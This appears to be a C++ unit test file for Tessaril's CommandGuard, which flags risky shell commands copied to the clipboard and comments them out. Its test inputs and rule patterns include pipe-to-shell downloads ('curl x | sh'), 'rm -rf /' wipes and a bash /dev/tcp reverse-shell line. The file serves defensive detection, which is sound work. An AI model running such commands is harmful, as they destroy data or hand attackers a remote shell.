// SPDX-License-Identifier: GPL-3.0-or-later
#include <gtest/gtest.h>

#include "core/guard/CommandGuard.h"
#include "core/guard/RuleBundle.h"
#include "tests/guard/GuardTestSupport.h"

#include <string>
#include <thread>
#include <tuple>
#include <utility>
#include <vector>

namespace tessaril {
namespace {

using testing::TemporaryDirectory;
using testing::writeFile;

std::string rulesFile(const std::string& version, const std::vector<RuleDefinition>& rules) {
    RuleBundle bundle{version, rules};
    return bundle.toJson().dump();
}

RuleDefinition rule(std::string id, CommandRiskSeverity severity, std::string pattern) {
    std::string summary = "summary of " + id;
    return {std::move(id), "bash", severity, std::move(pattern), std::move(summary), "explanation"};
}

CommandGuard guardWith(const std::vector<RuleDefinition>& rules, const std::string& version = "1.0") {
    const auto data = rulesFile(version, rules);
    return CommandGuard::fromRulesData(data);
}

std::vector<std::string> ids(const CommandRiskResult& result) {
    std::vector<std::string> out;
    for (const auto& finding : result.findings)
        out.push_back(finding.id);
    return out;
}

TEST(CommandGuard, ContinuationsAreJoinedAndTheCommandTrimmed) {
    const auto guard = guardWith({rule("pipe", CommandRiskSeverity::warning, "curl [^ ]+ \\| sh")});
    for (const char* text : {"curl x | sh", "curl\\\nx | sh", "curl\\\r\nx | sh", "curl`\nx | sh", "curl`\r\nx | sh",
                             "  \n\tcurl x | sh \r\n "}) {
        const auto result = guard.analyze(text);
        ASSERT_TRUE(result.has_value()) << text;
        EXPECT_EQ(result->findings.at(0).matchedText, "curl x | sh") << text;
    }
    EXPECT_EQ(guard.analyze("  curl\\\nx | sh\n")->command, "curl x | sh");
    // A bare line break is not a continuation.
    EXPECT_FALSE(guard.analyze("curl\nx | sh").has_value());
    EXPECT_EQ(CommandGuard::normalizedCommand("a\\\\\nb"), "a\\ b");

    EXPECT_FALSE(guard.analyze("").has_value());
    EXPECT_FALSE(guard.analyze(" \n\t\r\n \xE2\x80\x83").has_value());
}

TEST(CommandGuard, ThresholdFiltersBySeverity) {
    const auto guard = guardWith({rule("note", CommandRiskSeverity::info, "sudo"),
                                  rule("pipe", CommandRiskSeverity::warning, "\\| sh"),
                                  rule("wipe", CommandRiskSeverity::danger, "rm -rf /")});
    EXPECT_FALSE(guard.analyze("curl x | sh", CommandRiskSeverity::danger).has_value());
    const auto atWarning = guard.analyze("curl x | sh", CommandRiskSeverity::warning);
    ASSERT_TRUE(atWarning.has_value());
    EXPECT_EQ(ids(*atWarning), std::vector<std::string>{"pipe"});
    EXPECT_EQ(atWarning->severity, CommandRiskSeverity::warning);

    EXPECT_FALSE(guard.analyze("sudo ls").has_value());
    const auto everything = guard.analyze("sudo curl x | sh; sudo rm -rf /", CommandRiskSeverity::info);
    ASSERT_TRUE(everything.has_value());
    EXPECT_EQ(ids(*everything), (std::vector<std::string>{"wipe", "pipe", "note"}));
    EXPECT_EQ(everything->severity, CommandRiskSeverity::danger);
    EXPECT_EQ(guard.analyze("sudo rm -rf /", CommandRiskSeverity::danger)->findings.size(), 1U);
}

TEST(CommandGuard, FindingsAreOrderedBySeverityThenId) {
    const auto guard =
        guardWith({rule("b", CommandRiskSeverity::warning, "x"), rule("a", CommandRiskSeverity::warning, "x"),
                   rule("z", CommandRiskSeverity::danger, "x"), rule("c", CommandRiskSeverity::info, "x")});
    const auto result = guard.analyze("x", CommandRiskSeverity::info);
    ASSERT_TRUE(result.has_value());
    EXPECT_EQ(ids(*result), (std::vector<std::string>{"z", "a", "b", "c"}));
    EXPECT_EQ(result->primaryFinding()->id, "z");
    EXPECT_EQ(result->rulesVersion, "1.0");
    const auto& first = result->findings.front();
    EXPECT_EQ(first.platform, "bash");
    EXPECT_EQ(first.summary, "summary of z");
    EXPECT_EQ(first.explanation, "explanation");
}

TEST(CommandGuard, LongMatchesAreCutByUserPerceivedCharacters) {
    const auto guard = guardWith({rule("long", CommandRiskSeverity::warning, "X.*")});
    const auto cut = guard.analyze("X" + std::string(199, 'a'));
    ASSERT_TRUE(cut.has_value());
    EXPECT_EQ(cut->findings[0].matchedText, "X" + std::string(156, 'a') + "...");
    EXPECT_EQ(cut->command.size(), 200U);

    const std::string exactly160 = "X" + std::string(159, 'a');
    EXPECT_EQ(guard.analyze(exactly160)->findings[0].matchedText, exactly160);
    EXPECT_EQ(guard.analyze(exactly160 + "a")->findings[0].matchedText, "X" + std::string(156, 'a') + "...");

    // "e" + combining acute accent is one character on screen but three bytes: 160 of them are not cut,
    // 161 are cut after 157 whole clusters, never inside one.
    std::string accented = "X";
    for (int i = 0; i < 159; ++i)
        accented += "e\xCC\x81";
    EXPECT_EQ(guard.analyze(accented)->findings[0].matchedText, accented);
    const auto accentedCut = guard.analyze(accented + "e\xCC\x81")->findings[0].matchedText;
    EXPECT_EQ(accentedCut, accented.substr(0, 1 + 156 * 3) + "...");

    // The fragment is trimmed before it is measured.
    const auto trimmed = guardWith({rule("spaced", CommandRiskSeverity::warning, "a\\s+")}).analyze("a    b");
    EXPECT_EQ(trimmed->findings[0].matchedText, "a");
}

TEST(CommandGuard, SizeCapAndOwnOutputAreNotExamined) {
    const auto guard = guardWith({rule("any", CommandRiskSeverity::warning, "rm")});
    std::string atCap = "rm " + std::string(CommandGuard::maximumCommandBytes - 3, 'x');
    EXPECT_TRUE(guard.analyze(atCap).has_value());
    EXPECT_FALSE(guard.analyze(atCap + "x").has_value());
    // Trimming happens first: padding does not push a command over the cap.
    EXPECT_TRUE(guard.analyze(std::string(40000, ' ') + "rm -rf /" + std::string(40000, '\n')).has_value());
    // The cap is on the text as UTF-8: bytes that are not UTF-8 count as the replacement characters
    // they become (three bytes each), so the reported command never exceeds the cap.
    std::string broken = "rm " + std::string(CommandGuard::maximumCommandBytes - 13, 'x') + std::string(10, '\xFF');
    ASSERT_EQ(broken.size(), CommandGuard::maximumCommandBytes);
    EXPECT_FALSE(guard.analyze(broken).has_value());
    EXPECT_FALSE(CommandGuard::examinedCommand(broken).has_value());
    broken.erase(broken.size() - 30, 20);  // 20 fewer bytes: 32,748 plus 20 for the repair
    EXPECT_EQ(guard.analyze(broken)->command.size(), CommandGuard::maximumCommandBytes);
    EXPECT_EQ(CommandGuard::examinedCommand(broken)->text(), guard.analyze(broken)->command);
    // Ten megabytes are refused without examining them.
    EXPECT_FALSE(guard.analyze(std::string(10 * 1024 * 1024, 'r') + "m").has_value());

    // Only the product's own output is inert, judged as pasted: every line after the header a
    // comment as neutralizedCommand writes it. A live line anywhere after it is examined.
    const std::string header(CommandGuard::neutralizedHeader);
    const std::pair<std::string, bool> texts[] = {
        {CommandGuard::neutralizedCommand("rm -rf /"), false},
        {"\n  " + CommandGuard::neutralizedCommand("rm -rf /\n\nrm -rf ~\r\nx\ry \\\nrm"), false},
        {CommandGuard::neutralizedCommand(" \n"), false},
        {"echo hi\n" + CommandGuard::neutralizedCommand("rm -rf /"), true},
        {header + "\nrm -rf /", true},
        {header + "rm -rf /", true},
        {header + "# a\nrm -rf /", true},
        {header + "# a\rrm -rf /", true},     // a lone carriage return ends a line
        {header + "# a \\\nrm -rf /", true},  // a shell does not continue a comment
        {header + "# a `\r\nrm -rf /", true},
        {header + "#rm -rf /", true},
    };
    for (const auto& [text, flagged] : texts)
        EXPECT_EQ(guard.analyze(text).has_value(), flagged) << text;
}

TEST(CommandGuard, OddBytesNeverBreakTheAnalysis) {
    const auto guard = guardWith({rule("wipe", CommandRiskSeverity::danger, "rm -rf /")});
    const std::string withNul("rm -rf /\0 trailing", 18);
    ASSERT_TRUE(guard.analyze(withNul).has_value());
    EXPECT_EQ(guard.analyze(withNul)->command, withNul);
    // A stray invalid byte must not switch the guard off, and the verdict must stay valid UTF-8 for JSON.
    const auto invalid = guard.analyze("\xFF\xFE rm -rf / \xC3");
    ASSERT_TRUE(invalid.has_value());
    EXPECT_EQ(invalid->command, "\xEF\xBF\xBD\xEF\xBF\xBD rm -rf / \xEF\xBF\xBD");
    EXPECT_NO_THROW((void)invalid->toJson().dump());
}

TEST(CommandGuard, BrokenRulesFilesAndPatterns) {
    const auto guard = guardWith(
        {rule("bad", CommandRiskSeverity::danger, "(unclosed"), rule("good", CommandRiskSeverity::danger, "rm")});
    ASSERT_EQ(guard.rules().size(), 1U);
    EXPECT_EQ(guard.rules()[0].definition.id, "good");
    EXPECT_EQ(ids(*guard.analyze("rm")), std::vector<std::string>{"good"});

    EXPECT_FALSE(guard.rulesProblem().has_value());

    using Problem = CommandGuard::RulesProblem;
    const std::tuple<std::string, std::string, Problem> unusable[] = {
        {"", "unavailable", Problem::undecodable},
        {"{", "unavailable", Problem::undecodable},
        {"{}", "unavailable", Problem::undecodable},
        {R"({"currentVersion":"1","rules":[{"id":"a","platform":"p","severity":"urgent","pattern":"rm",
            "summary":"s","explanation":"e"}]})",
         "unavailable", Problem::undecodable},
        {rulesFile("1", {}), "1", Problem::noRuleCompiles},
        {rulesFile("2",
                   {rule("bad", CommandRiskSeverity::danger, "(rm"), rule("worse", CommandRiskSeverity::info, "[")}),
         "2", Problem::noRuleCompiles},
    };
    for (const auto& [data, version, problem] : unusable) {
        const auto broken = CommandGuard::fromRulesData(data);
        EXPECT_EQ(broken.rulesVersion(), version) << data;
        EXPECT_EQ(broken.rulesProblem(), problem) << data;
        EXPECT_TRUE(broken.rules().empty());
        EXPECT_FALSE(broken.analyze("rm -rf /", CommandRiskSeverity::info).has_value());
    }
    EXPECT_EQ(CommandGuard::fromRulesData(std::nullopt).rulesVersion(), "unavailable");
    EXPECT_EQ(CommandGuard::fromRulesData(std::nullopt).rulesProblem(), Problem::missing);
}

// A terminal without bracketed paste runs what follows a lone carriage return, so it starts a
// commented line of its own (the fuzzer found that one); CR LF is still one line break.
TEST(CommandGuard, NeutralizedTextCommentsEveryLine) {
    const std::string header =
        "# Tessaril neutralized a risky command copied to the clipboard.\n# Review before running anything below.\n";
    const std::pair<std::string, std::string> cases[] = {
        {"  rm -rf / \n", "# rm -rf /"},
        {"a\r\n\nb \\\nc", "# a\r\n# \n# b  c"},
        {"", "# "},
        {"echo hi\rrm -rf ~", "# echo hi\r# rm -rf ~"},
        {"\x90\r{", "# \x90\r# {"},
        {"a\r\r\nb\n\rc", "# a\r# \r\n# b\n# \r# c"},
        {"a\r\nb", "# a\r\n# b"},
        // Trimming takes a trailing carriage return, and a continuation before CR LF still joins lines.
        {"ls \\\r\n-la\r", "# ls  -la"},
    };
    for (const auto& [command, commented] : cases)
        EXPECT_EQ(CommandGuard::neutralizedCommand(command), header + commented) << command;
}

TEST(CommandGuard, RuleBundleVersionNeedsAVisibleVersion) {
    EXPECT_EQ(CommandGuard::ruleBundleVersion(rulesFile(" 2.0\n", {})), " 2.0\n");
    EXPECT_FALSE(CommandGuard::ruleBundleVersion(rulesFile(" \n\t", {})).has_value());
    EXPECT_FALSE(CommandGuard::ruleBundleVersion("{}").has_value());
}

class CommandGuardFiles : public ::testing::Test {
protected:
    TemporaryDirectory folder;
    FixedPaths paths{folder.path()};
    std::filesystem::path root = folder.path() / "data" / "com.orvellelabs.tessaril";
    std::filesystem::path active = root / "rules" / "active" / "command-guard-rules.json";
    std::filesystem::path previous = root / "rules" / "previous" / "command-guard-rules.json";
    std::filesystem::path legacy = root / "command-guard" / "active" / "command-guard-rules.json";
    std::filesystem::path bundleDirectory = folder.path() / "bundle";
};

TEST_F(CommandGuardFiles, InstalledLocationPrefersActiveThenPreviousThenLegacy) {
    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), legacy);
    writeFile(previous, rulesFile("2", {}));
    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
    writeFile(active, rulesFile("  ", {}));
    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
    writeFile(active, "not json");
    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
    writeFile(active, rulesFile("3", {}));
    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), active);
}

TEST_F(CommandGuardFiles, LoadsInstalledFileElseShippedFile) {
    writeFile(bundleDirectory / "command-guard-rules.json",
              rulesFile("shipped", {rule("shipped", CommandRiskSeverity::danger, "rm")}));
    const ResourceBundle bundle(bundleDirectory);
    EXPECT_EQ(CommandGuard(&bundle, &paths).rulesVersion(), "shipped");
    EXPECT_FALSE(CommandGuard(&bundle, &paths).passedOverInstalledRules().has_value());
    EXPECT_EQ(CommandGuard(nullptr, &paths).rulesVersion(), "unavailable");

    writeFile(legacy, rulesFile("legacy", {rule("legacy", CommandRiskSeverity::danger, "rm")}));
    EXPECT_EQ(CommandGuard(&bundle, &paths).rulesVersion(), "legacy");
    writeFile(active, rulesFile("active", {rule("installed", CommandRiskSeverity::danger, "rm")}));
    const CommandGuard installed(&bundle, &paths);
    EXPECT_EQ(installed.rulesVersion(), "active");
    EXPECT_EQ(installed.analyze("rm")->findings[0].id, "installed");

    // An explicit file wins; when it does not decode or no rule in it compiles, the shipped file is
    // used and says which file it stands in for.
    const auto explicitFile = folder.path() / "mine.json";
    writeFile(explicitFile, rulesFile("mine", {rule("mine", CommandRiskSeverity::danger, "rm")}));
    EXPECT_EQ(CommandGuard(&bundle, &paths, explicitFile).rulesVersion(), "mine");
    for (const auto& [content, problem] : {std::pair{rulesFile("mine", {}), CommandGuard::RulesProblem::noRuleCompiles},
                                           {R"({"currentVersion":"x"})", CommandGuard::RulesProblem::undecodable}}) {
        writeFile(explicitFile, content);
        const CommandGuard fallback(&bundle, &paths, explicitFile);
        EXPECT_EQ(fallback.rulesVersion(), "shipped");
        ASSERT_TRUE(fallback.passedOverInstalledRules().has_value());
        EXPECT_EQ(fallback.passedOverInstalledRules()->file, explicitFile);
        EXPECT_EQ(fallback.passedOverInstalledRules()->problem, problem);
    }
    // A shipped file that does not decode leaves the guard without rules.
    writeFile(bundleDirectory / "command-guard-rules.json", "garbage");
    EXPECT_EQ(CommandGuard(&bundle, nullptr, explicitFile).rulesVersion(), "unavailable");
}

TEST(CommandGuard, SharedGuardAnswersFromSeveralThreads) {
    const auto guard = testing::shippedGuard();
    std::vector<std::thread> threads;
    std::vector<int> flagged(4, 0);
    for (std::size_t t = 0; t < flagged.size(); ++t) {
        threads.emplace_back([&guard, &flagged, t] {
            for (int i = 0; i < 50; ++i) {
                if (guard.analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")) ++flagged[t];
                if (guard.analyze("git status")) --flagged[t];
            }
        });
    }
    for (auto& thread : threads)
        thread.join();
    for (int count : flagged)
        EXPECT_EQ(count, 50);
}

// Each alternative of a top-level alternation must be met as a whole, so a text holding a
// fragment of one alternative and a fragment of another is skipped; bars inside groups, classes or
// escapes do not split, and a pattern that cannot be split for certain keeps the plain filter.
TEST(CommandGuard, AlternativesAreFilteredOneByOne) {
    const auto guard = guardWith({
        rule("split", CommandRiskSeverity::danger, "(?i)(?:alpha|beta)\\s+x1|gamma(?:y2|z3)"),
        rule("escaped", CommandRiskSeverity::danger, "a\\|b|c[|]d|e(?:f|g)h"),
        rule("flags", CommandRiskSeverity::danger, "one(?x) two|three"),
    });
    ASSERT_EQ(guard.rules().size(), 3u);
    const auto mayMatch = [&guard](std::size_t index, const std::string& text) {
        return guard.rules()[index].mayMatch(text, RulePrefilter::foldForMatching(text));
    };
    const auto& split = guard.rules()[0];
    EXPECT_EQ(split.alternativePrefilters.size(), 2u);
    EXPECT_TRUE(split.prefilter.mayMatch("alpha gamma", "alpha gamma"));  // the whole-pattern filter lets it by
    EXPECT_FALSE(mayMatch(0, "alpha gamma"));
    EXPECT_FALSE(mayMatch(0, "BETA z3"));
    EXPECT_TRUE(mayMatch(0, "BETA  X1"));
    EXPECT_TRUE(mayMatch(0, "gammaz3"));
    EXPECT_TRUE(guard.analyze("run BETA  X1 now").has_value());
    EXPECT_TRUE(guard.analyze("gammaZ3").has_value());

    EXPECT_EQ(guard.rules()[1].alternativePrefilters.size(), 3u);
    for (const char* text : {"a|b", "c|d", "egh"}) {
        EXPECT_TRUE(mayMatch(1, text)) << text;
        EXPECT_TRUE(guard.analyze(text).has_value()) << text;
    }
    EXPECT_FALSE(mayMatch(1, "ab c eh"));

    EXPECT_TRUE(guard.rules()[2].alternativePrefilters.empty());
    EXPECT_TRUE(guard.analyze("three").has_value());
}

}  // namespace
}  // namespace tessaril
